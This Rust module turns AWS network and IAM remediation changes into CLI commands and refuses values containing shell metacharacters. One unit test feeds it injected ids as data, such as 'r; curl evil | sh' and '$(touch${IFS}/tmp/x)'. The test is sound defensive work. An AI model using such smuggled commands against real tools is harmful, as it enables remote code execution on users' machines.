//! Changes as AWS CLI commands (AWS CLI v2 command reference: `ec2 create-route`,
//! `ec2 create-nat-gateway`, `ec2 create-vpc-endpoint`, `ec2 modify-vpc-endpoint`,
//! `ec2 modify-vpc-attribute`, `ec2 authorize-security-group-egress|ingress`,
//! `ec2 create-network-acl-entry`, `iam attach-role-policy`, `ecs update-service`). A resource
//! created by one command and used by a later one travels in a shell variable.

use std::collections::BTreeMap;

use super::{is_new, Change, DnsAttribute, Family, Peer, RouteTo};

/// The commands that make `changes`, one per line, in order.
pub fn render_cli(changes: &[Change]) -> Vec<String> {
    let mut variables = Variables::default();
    changes
        .iter()
        .flat_map(|change| match unsafe_value(change) {
            // Ids and names come from the account (hostile input): a command a person pastes
            // must not run anything else. AWS ids, names and ARNs never need quoting.
            Some(value) => vec![format!(
                "# not rendered: `{}` holds characters a shell would interpret",
                value.escape_default()
            )],
            None => commands(change, &mut variables),
        })
        .collect()
}

/// Whether `text` holds only characters no shell interprets (those of AWS ids, names, ARNs,
/// CIDRs and service names).
fn shell_plain(text: &str) -> bool {
    text.chars()
        .all(|c| c.is_ascii_alphanumeric() || "._:/@+=,-*".contains(c))
}

/// The first value of the change (through its serde form, so that no field is forgotten)
/// that is not a plain shell word.
fn unsafe_value(change: &Change) -> Option<String> {
    fn first(value: &serde_json::Value) -> Option<String> {
        match value {
            serde_json::Value::String(s) if !shell_plain(s) => Some(s.clone()),
            serde_json::Value::Array(items) => items.iter().find_map(first),
            serde_json::Value::Object(fields) => fields.values().find_map(first),
            _ => None,
        }
    }
    match serde_json::to_value(change) {
        Ok(value) => first(&value),
        Err(e) => Some(e.to_string()),
    }
}

/// Shell variables standing for the ids of resources created earlier in the script.
#[derive(Default)]
struct Variables {
    names: BTreeMap<String, String>,
}

impl Variables {
    /// A new variable for the placeholder `id` (`NAT_ID`, `NAT_ID_2`…).
    fn define(&mut self, id: &str, stem: &str) -> String {
        let taken = self.names.values().filter(|v| v.starts_with(stem)).count();
        let name = if taken == 0 {
            stem.to_string()
        } else {
            format!("{stem}_{}", taken + 1)
        };
        self.names.insert(id.to_string(), name.clone());
        name
    }

    /// `id` as the command line writes it: a placeholder's variable, else the id itself.
    fn id(&self, id: &str) -> String {
        match self.names.get(id) {
            Some(name) => format!("\"${name}\""),
            None if is_new(id) => format!("<{id}>"),
            None => id.to_string(),
        }
    }
}

/// The rule's peer and port. The `--ip-permissions` shorthand is double-quoted so that a
/// group created earlier in the script (a shell variable) expands inside it; every value in
/// it is a plain word (`render_cli` refuses others).
fn peer_flag(peer: &Peer, port: u16, variables: &Variables) -> String {
    let bare = |id: &str| variables.id(id).trim_matches('"').to_string();
    match peer {
        Peer::Cidr(cidr) => format!("--protocol tcp --port {port} --cidr {cidr}"),
        Peer::Group(id) => format!(
            "--ip-permissions \"IpProtocol=tcp,FromPort={port},ToPort={port},UserIdGroupPairs=[{{GroupId={}}}]\"",
            bare(id)
        ),
        Peer::PrefixList(id) => format!(
            "--ip-permissions \"IpProtocol=tcp,FromPort={port},ToPort={port},PrefixListIds=[{{PrefixListId={id}}}]\""
        ),
    }
}

fn route_target(target: &RouteTo, variables: &Variables) -> String {
    match target {
        RouteTo::NatGateway(id) => format!("--nat-gateway-id {}", variables.id(id)),
        RouteTo::InternetGateway(id) => format!("--gateway-id {id}"),
    }
}

fn destination_flag(destination: &str) -> String {
    if destination.starts_with("pl-") {
        format!("--destination-prefix-list-id {destination}")
    } else {
        format!("--destination-cidr-block {destination}")
    }
}

fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
    match change.family() {
        Family::GatewaysAndRoutes => gateway_and_route_commands(change, variables),
        Family::Endpoints => endpoint_commands(change, variables),
        Family::Filters => filter_commands(change, variables),
        Family::RolesAndServices => role_and_service_commands(change),
    }
}

fn gateway_and_route_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
    match change {
        Change::CreateNatGateway { subnet_id, .. } => {
            let eip = variables.define(&format!("eip-for-{subnet_id}"), "EIP_ID");
            let nat = variables.define(&super::new_nat_id(subnet_id), "NAT_ID");
            vec![
                format!("{eip}=$(aws ec2 allocate-address --domain vpc --query AllocationId --output text)"),
                format!("{nat}=$(aws ec2 create-nat-gateway --subnet-id {subnet_id} --allocation-id \"${eip}\" --query NatGateway.NatGatewayId --output text)"),
                format!("aws ec2 wait nat-gateway-available --nat-gateway-ids \"${nat}\""),
            ]
        }
        Change::CreateRoute {
            route_table_id,
            destination_cidr,
            target,
        } => vec![format!(
            "aws ec2 create-route --route-table-id {route_table_id} --destination-cidr-block {destination_cidr} {}",
            route_target(target, variables)
        )],
        Change::ReplaceRoute {
            route_table_id,
            destination,
            target,
        } => vec![format!(
            "aws ec2 replace-route --route-table-id {route_table_id} {} {}",
            destination_flag(destination),
            route_target(target, variables)
        )],
        Change::DeleteRoute {
            route_table_id,
            destination,
        } => vec![format!(
            "aws ec2 delete-route --route-table-id {route_table_id} {}",
            destination_flag(destination)
        )],
        Change::DeleteNatGateway { nat_gateway_id } => vec![format!(
            "aws ec2 delete-nat-gateway --nat-gateway-id {nat_gateway_id}"
        )],
        // `commands` sends only this family here; nothing to run otherwise.
        _ => Vec::new(),
    }
}

fn endpoint_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
    match change {
        Change::CreateEndpointSecurityGroup { vpc_id, name } => {
            let sg = variables.define(&super::new_endpoint_group_id(vpc_id), "ENDPOINT_SG_ID");
            vec![
                format!("{sg}=$(aws ec2 create-security-group --vpc-id {vpc_id} --group-name {name} --description 'HTTPS from the VPC to its interface endpoints' --query GroupId --output text)"),
                format!("for cidr in $(aws ec2 describe-vpcs --vpc-ids {vpc_id} --query 'Vpcs[0].CidrBlockAssociationSet[].CidrBlock' --output text); do aws ec2 authorize-security-group-ingress --group-id \"${sg}\" --protocol tcp --port 443 --cidr \"$cidr\"; done"),
            ]
        }
        Change::CreateInterfaceEndpoint {
            vpc_id,
            service_name,
            subnet_ids,
            security_group_ids,
        } => vec![format!(
            "aws ec2 create-vpc-endpoint --vpc-id {vpc_id} --vpc-endpoint-type Interface --service-name {service_name} --subnet-ids {} --security-group-ids {} --private-dns-enabled",
            subnet_ids.join(" "),
            security_group_ids
                .iter()
                .map(|id| variables.id(id))
                .collect::<Vec<_>>()
                .join(" ")
        )],
        Change::CreateGatewayEndpoint {
            vpc_id,
            service_name,
            route_table_ids,
        } => vec![format!(
            "aws ec2 create-vpc-endpoint --vpc-id {vpc_id} --vpc-endpoint-type Gateway --service-name {service_name} --route-table-ids {}",
            route_table_ids.join(" ")
        )],
        Change::AssociateGatewayEndpoint {
            endpoint_id,
            route_table_id,
        } => vec![format!(
            "aws ec2 modify-vpc-endpoint --vpc-endpoint-id {endpoint_id} --add-route-table-ids {route_table_id}"
        )],
        Change::EnableEndpointPrivateDns { endpoint_id } => vec![format!(
            "aws ec2 modify-vpc-endpoint --vpc-endpoint-id {endpoint_id} --private-dns-enabled"
        )],
        Change::AddEndpointSubnets {
            endpoint_id,
            subnet_ids,
        } => vec![format!(
            "aws ec2 modify-vpc-endpoint --vpc-endpoint-id {endpoint_id} --add-subnet-ids {}",
            subnet_ids.join(" ")
        )],
        Change::DeleteVpcEndpoint { endpoint_id } => vec![format!(
            "aws ec2 delete-vpc-endpoints --vpc-endpoint-ids {endpoint_id}"
        )],
        // One attribute per call: the API refuses both in one request.
        Change::EnableVpcDns { vpc_id, attribute } => vec![format!(
            "aws ec2 modify-vpc-attribute --vpc-id {vpc_id} {}",
            match attribute {
                DnsAttribute::DnsSupport => "--enable-dns-support '{\"Value\":true}'",
                DnsAttribute::DnsHostnames => "--enable-dns-hostnames '{\"Value\":true}'",
            }
        )],
        // `commands` sends only this family here; nothing to run otherwise.
        _ => Vec::new(),
    }
}

fn filter_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
    match change {
        Change::AuthorizeEgress {
            group_id,
            port,
            peer,
        } => vec![format!(
            "aws ec2 authorize-security-group-egress --group-id {} {}",
            variables.id(group_id),
            peer_flag(peer, *port, variables)
        )],
        Change::AuthorizeIngress {
            group_id,
            port,
            peer,
        } => vec![format!(
            "aws ec2 authorize-security-group-ingress --group-id {} {}",
            variables.id(group_id),
            peer_flag(peer, *port, variables)
        )],
        Change::RevokeEgress { group_id, peer } | Change::RevokeIngress { group_id, peer } => {
            let direction = if matches!(change, Change::RevokeEgress { .. }) {
                "egress"
            } else {
                "ingress"
            };
            vec![format!(
                "aws ec2 revoke-security-group-{direction} --group-id {group_id} --security-group-rule-ids <the ids of its rules naming {}>",
                match peer {
                    Peer::Cidr(c) | Peer::Group(c) | Peer::PrefixList(c) => c,
                }
            )]
        }
        Change::AllowNaclEntry {
            network_acl_id,
            egress,
            rule_number,
            cidr,
            from_port,
            to_port,
        } => vec![format!(
            "aws ec2 create-network-acl-entry --network-acl-id {network_acl_id} {} --rule-number {rule_number} --protocol tcp --port-range From={from_port},To={to_port} --cidr-block {cidr} --rule-action allow",
            if *egress { "--egress" } else { "--ingress" }
        )],
        // `commands` sends only this family here; nothing to run otherwise.
        _ => Vec::new(),
    }
}

fn role_and_service_commands(change: &Change) -> Vec<String> {
    match change {
        Change::AttachRolePolicy {
            role_name,
            policy_arn,
        } => vec![format!(
            "aws iam attach-role-policy --role-name {role_name} --policy-arn {policy_arn}"
        )],
        Change::DetachRolePolicy {
            role_name,
            policy_arn,
        } => vec![format!(
            "aws iam detach-role-policy --role-name {role_name} --policy-arn {policy_arn}"
        )],
        // update-service replaces the whole awsvpcConfiguration: the subnets and groups
        // must be repeated, so the command reads them back first.
        Change::EnableAssignPublicIp { cluster, service } => vec![format!(
            "aws ecs update-service --cluster {cluster} --service {service} --network-configuration \"$(aws ecs describe-services --cluster {cluster} --services {service} --query 'services[0].networkConfiguration' --output json | sed 's/\"DISABLED\"/\"ENABLED\"/')\""
        )],
        // `commands` sends only this family here; nothing to run otherwise.
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fix::{new_nat_id, DnsAttribute, Peer, RouteTo};

    fn every_change() -> Vec<Change> {
        let s = |x: &str| x.to_string();
        vec![
            Change::CreateNatGateway {
                vpc_id: s("vpc-1"),
                subnet_id: s("subnet-p"),
            },
            Change::CreateRoute {
                route_table_id: s("rtb-1"),
                destination_cidr: s("0.0.0.0/0"),
                target: RouteTo::NatGateway(new_nat_id("subnet-p")),
            },
            Change::ReplaceRoute {
                route_table_id: s("rtb-1"),
                destination: s("pl-1"),
                target: RouteTo::InternetGateway(s("igw-1")),
            },
            Change::DeleteRoute {
                route_table_id: s("rtb-1"),
                destination: s("10.0.0.0/8"),
            },
            Change::CreateEndpointSecurityGroup {
                vpc_id: s("vpc-1"),
                name: s("vpc-endpoints"),
            },
            Change::CreateInterfaceEndpoint {
                vpc_id: s("vpc-1"),
                service_name: s("com.amazonaws.us-east-1.logs"),
                subnet_ids: vec![s("subnet-a")],
                security_group_ids: vec![s("sg-1")],
            },
            Change::CreateGatewayEndpoint {
                vpc_id: s("vpc-1"),
                service_name: s("com.amazonaws.us-east-1.s3"),
                route_table_ids: vec![s("rtb-1")],
            },
            Change::AssociateGatewayEndpoint {
                endpoint_id: s("vpce-1"),
                route_table_id: s("rtb-1"),
            },
            Change::EnableEndpointPrivateDns {
                endpoint_id: s("vpce-1"),
            },
            Change::AddEndpointSubnets {
                endpoint_id: s("vpce-1"),
                subnet_ids: vec![s("subnet-b")],
            },
            Change::DeleteVpcEndpoint {
                endpoint_id: s("vpce-1"),
            },
            Change::DeleteNatGateway {
                nat_gateway_id: s("nat-1"),
            },
            Change::EnableVpcDns {
                vpc_id: s("vpc-1"),
                attribute: DnsAttribute::DnsHostnames,
            },
            Change::AuthorizeEgress {
                group_id: s("sg-1"),
                port: 443,
                peer: Peer::Group(s("sg-2")),
            },
            Change::AuthorizeIngress {
                group_id: s("sg-1"),
                port: 443,
                peer: Peer::Cidr(s("10.0.0.0/16")),
            },
            Change::RevokeEgress {
                group_id: s("sg-1"),
                peer: Peer::PrefixList(s("pl-1")),
            },
            Change::RevokeIngress {
                group_id: s("sg-1"),
                peer: Peer::Group(s("sg-2")),
            },
            Change::AllowNaclEntry {
                network_acl_id: s("acl-1"),
                egress: true,
                rule_number: 99,
                cidr: s("0.0.0.0/0"),
                from_port: 443,
                to_port: 443,
            },
            Change::AttachRolePolicy {
                role_name: s("r"),
                policy_arn: s("arn:aws:iam::aws:policy/x"),
            },
            Change::DetachRolePolicy {
                role_name: s("r"),
                policy_arn: s("arn:aws:iam::aws:policy/x"),
            },
            Change::EnableAssignPublicIp {
                cluster: s("prod"),
                service: s("web"),
            },
        ]
    }

    #[test]
    fn every_change_renders_a_command() {
        for change in every_change() {
            let commands = render_cli(std::slice::from_ref(&change));
            assert!(!commands.is_empty(), "{change:?}");
            assert!(commands.iter().all(|c| c.contains("aws ")), "{commands:?}");
        }
    }

    #[test]
    fn a_new_nat_gateway_travels_in_a_variable() {
        let changes = &every_change()[..2];
        let commands = render_cli(changes);
        assert!(commands[1].starts_with("NAT_ID=$(aws ec2 create-nat-gateway --subnet-id subnet-p"));
        assert!(
            commands[3].ends_with("--nat-gateway-id \"$NAT_ID\""),
            "{}",
            commands[3]
        );
    }

    #[test]
    fn hostile_ids_are_not_rendered() {
        for change in [
            Change::AttachRolePolicy {
                role_name: "r; curl evil | sh".into(),
                policy_arn: "arn:aws:iam::aws:policy/x".into(),
            },
            Change::AuthorizeEgress {
                group_id: "sg-1".into(),
                port: 443,
                peer: Peer::Group("sg-0a$(touch${IFS}/tmp/x)".into()),
            },
        ] {
            let commands = render_cli(&[change]);
            assert_eq!(commands.len(), 1);
            assert!(commands[0].starts_with("# not rendered:"), "{commands:?}");
        }
    }
}
